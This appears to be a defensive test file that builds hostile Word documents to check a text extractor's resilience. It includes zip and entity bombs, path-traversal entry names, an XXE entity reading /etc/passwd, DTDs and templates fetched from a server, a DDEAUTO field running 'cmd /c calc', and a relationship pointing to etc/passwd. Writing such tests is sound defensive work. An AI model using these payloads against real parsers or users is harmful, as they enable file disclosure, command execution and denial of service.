import { MAX_CELLS } from '../src/limits.js';
import { documentXml, docxOf, docxParts, paragraph, relations } from './docx.js';
import { file, type Hostile, type HostileFiles, megabytes, SENTENCE } from './hostile.js';
import { type Entry, rawZip, zipOf } from './zip.js';

const TEXT = paragraph(SENTENCE);

export const hostileDocx: HostileFiles = (server) => ({
  ...bombs(),
  ...entities(server),
  ...structures(),
  ...outside(server),
});

function bombs(): Readonly<Record<string, Hostile>> {
  const whole = Object.entries(docxParts(TEXT)).map(([name, content]): Entry => ({ name, content }));
  const withMain = (size: number, claims?: number): Uint8Array => {
    const content = Buffer.concat([Buffer.from(documentXml(TEXT)), megabytes(size)]);
    return rawZip([...whole.slice(0, 2), { name: 'word/document.xml', content, ...(claims && { claims }) }]);
  };
  const picture = (): Entry => ({ name: 'word/media/image1.png', content: megabytes(200) });
  const archive = (): Uint8Array => rawZip([{ name: 'a', content: megabytes(100) }]);
  return {
    'a part of 200 MB': file('bomb.docx', () => withMain(200), 'too-much'),
    'a part of 200 MB that says it had 100 bytes': file('lie.docx', () => withMain(200, 100), 'too-much', 'damaged'),
    'a part that says it had 4 GB': file('claim.docx', () => withMain(1, 0xffff_fffe), 'too-much', 'damaged'),
    'a picture of 200 MB': file('picture.docx', () => rawZip([...whole, picture()]), 'text', 'too-much'),
    '20,000 parts': file('parts.docx', () => rawZip([...whole, ...copies(20_000, { content: '' })]), 'too-much'),
    '5,000 parts that share 20 MB': file('overlap.docx', () => overlapping(whole), 'text', 'too-much'),
    'an archive in the archive': file(
      'nested.docx',
      () => docxOf(TEXT, { 'word/embeddings/a.zip': archive() }),
      'text',
    ),
    'names that lead elsewhere': file(
      'names.docx',
      () => rawZip([...whole, ...ELSEWHERE.map((name): Entry => ({ name, content: 'x' }))]),
      'text',
    ),
  };
}

const ELSEWHERE = ['../../escaped.txt', '/tmp/outturn-escaped.txt', 'word/\0.xml', 'C:\\escaped.txt', '__proto__', ''];

function copies(count: number, entry: Omit<Entry, 'name'>): readonly Entry[] {
  return Array.from({ length: count }, (_, at) => ({ ...entry, name: `word/media/${at}.xml` }));
}

function overlapping(whole: readonly Entry[]): Uint8Array {
  const large: Entry = { name: 'word/large.xml', content: megabytes(20) };
  return rawZip([large, ...whole, ...copies(5_000, { content: '', overlaps: true })]);
}

function entities(server: string): Readonly<Record<string, Hostile>> {
  const laughs = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
  const withType = (inside: string, entity: string): Uint8Array =>
    zipOf({
      ...docxParts(''),
      'word/document.xml': documentXml(
        `${TEXT}<w:p><w:r><w:t>&${entity};</w:t></w:r></w:p>`,
        `<!DOCTYPE a [${inside}]>`,
      ),
    });
  return {
    'entities that grow': {
      ...file('laughs.docx', () => withType(`<!ENTITY l0 "哈哈">${laughs}`, 'l12'), 'text', 'damaged'),
      without: /哈哈/,
    },
    'an entity that is a file': {
      ...file('passwd.docx', () => withType('<!ENTITY x SYSTEM "file:///etc/passwd">', 'x'), 'text', 'damaged'),
      without: /root:/,
    },
    'an entity on the network': file(
      'entity.docx',
      () => withType(`<!ENTITY % p SYSTEM "${server}/a.dtd">%p;<!ENTITY x SYSTEM "${server}/x">`, 'x'),
      'text',
      'damaged',
    ),
  };
}

function structures(): Readonly<Record<string, Hostile>> {
  const cell = (text: string, properties = ''): string =>
    `<w:tc><w:tcPr>${properties}</w:tcPr><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:tc>`;
  const tables = (count: number, rows: number): string =>
    `<w:tbl>${`<w:tr>${cell('1.5').repeat(10)}</w:tr>`.repeat(rows)}</w:tbl>${TEXT}`.repeat(count);
  const nested = (depth: number): string =>
    `${'<w:tbl><w:tr><w:tc>'.repeat(depth)}${TEXT}${'</w:tc></w:tr></w:tbl>'.repeat(depth)}`;
  const wide = `<w:tbl><w:tr>${cell('1', '<w:gridSpan w:val="100000000"/>')}${cell('2')}</w:tr></w:tbl>`;
  const negative = `<w:tbl><w:tr>${cell('1', '<w:gridSpan w:val="-5"/>')}${cell('2')}</w:tr></w:tbl>`;
  const before = `<w:tbl>${`<w:tr><w:trPr><w:gridBefore w:val="16000"/></w:trPr>${cell('1')}${cell('2')}</w:tr>`.repeat(20_000)}</w:tbl>`;
  return {
    'a million elements inside one another': file(
      'deep.docx',
      () => docxOf(`${'<w:sdt><w:sdtContent>'.repeat(5e5)}${TEXT}`),
      'too-much',
      'damaged',
    ),
    'a hundred thousand tables inside one another': file('tables.docx', () => docxOf(nested(1e5)), 'too-much'),
    'nearly as many cells as may be': file('cells.docx', () => docxOf(tables(9, MAX_CELLS / 100)), 'text'),
    'more cells than may be': file('more-cells.docx', () => docxOf(tables(11, MAX_CELLS / 100)), 'too-much'),
    'a cell over a hundred million columns': file(
      'wide.docx',
      () => docxOf(TEXT + wide + negative),
      'text',
      'too-much',
    ),
    '20,000 rows that begin far to the right': file('right.docx', () => docxOf(TEXT + before), 'text', 'too-much'),
    '30 million characters': file('long.docx', () => docxOf(paragraph('增长'.repeat(500)).repeat(30_000)), 'too-much'),
    'a million pieces in a paragraph': file(
      'runs.docx',
      () => docxOf(`<w:p>${'<w:r><w:t>增</w:t></w:r>'.repeat(1e6)}</w:p>`),
      'text',
      'too-much',
    ),
    'styles, lists and notes that lead back to themselves': file('loops.docx', loops, 'text'),
    'no main part': file('headless.docx', () => zipOf({ 'word/styles.xml': '<a/>' }), 'damaged', 'other-format'),
  };
}

function loops(): Uint8Array {
  const space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const style = (name: string, base: string): string =>
    `<w:style w:type="paragraph" w:styleId="${name}"><w:basedOn w:val="${base}"/><w:link w:val="${name}"/></w:style>`;
  const level = `<w:lvl w:ilvl="0"><w:start w:val="999999999999999"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="${'%1%2%9'.repeat(2000)}"/></w:lvl>`;
  const numbered = `<w:p><w:pPr><w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>`;
  const far = numbered.replace('w:ilvl w:val="0"', 'w:ilvl w:val="999999999"');
  const note = '<w:r><w:footnoteReference w:id="1"/></w:r>';
  return docxOf(`${TEXT}${numbered}${far}<w:p>${note.repeat(100)}</w:p>`, {
    'word/_rels/document.xml.rels': relations({
      rId1: ['styles', 'styles.xml'],
      rId2: ['numbering', 'numbering.xml'],
      rId3: ['footnotes', 'footnotes.xml'],
      rId4: ['officeDocument', 'document.xml'],
    }),
    'word/styles.xml': `<w:styles ${space}>${style('a', 'b')}${style('b', 'a')}</w:styles>`,
    'word/numbering.xml': `<w:numbering ${space}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/>${level}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
    'word/footnotes.xml': `<w:footnotes ${space}><w:footnote w:id="1"><w:p>${note}<w:r><w:t>注</w:t></w:r></w:p></w:footnote></w:footnotes>`,
  });
}

function outside(server: string): Readonly<Record<string, Hostile>> {
  const field = (code: string): string =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
  const drawing = '<w:p><w:r><w:drawing><a:blip xmlns:a="a" r:link="rId2"/></w:drawing></w:r></w:p>';
  const body = `${TEXT}${drawing}${field(`INCLUDEPICTURE "${server}/a.png"`)}${field('DDEAUTO cmd "/c calc"')}<w:altChunk r:id="rId3"/><w:subDoc r:id="rId4"/>`;
  return {
    'links, pictures and templates from outside': file(
      'links.docx',
      () =>
        docxOf(body, {
          'word/_rels/document.xml.rels': relations({
            rId1: ['attachedTemplate', `${server}/a.dotm`],
            rId2: ['image', `${server}/a.png`],
            rId3: ['aFChunk', `${server}/a.html`],
            rId4: ['subDocument', `${server}/a.docx`],
            rId5: ['styles', `${server}/styles.xml`],
            rId6: ['footnotes', '../../../../../../etc/passwd'],
          }),
        }),
      'text',
    ),
    macros: file('macros.docm', () => docxOf(TEXT, { 'word/vbaProject.bin': new Uint8Array(64) }), 'text'),
  };
}
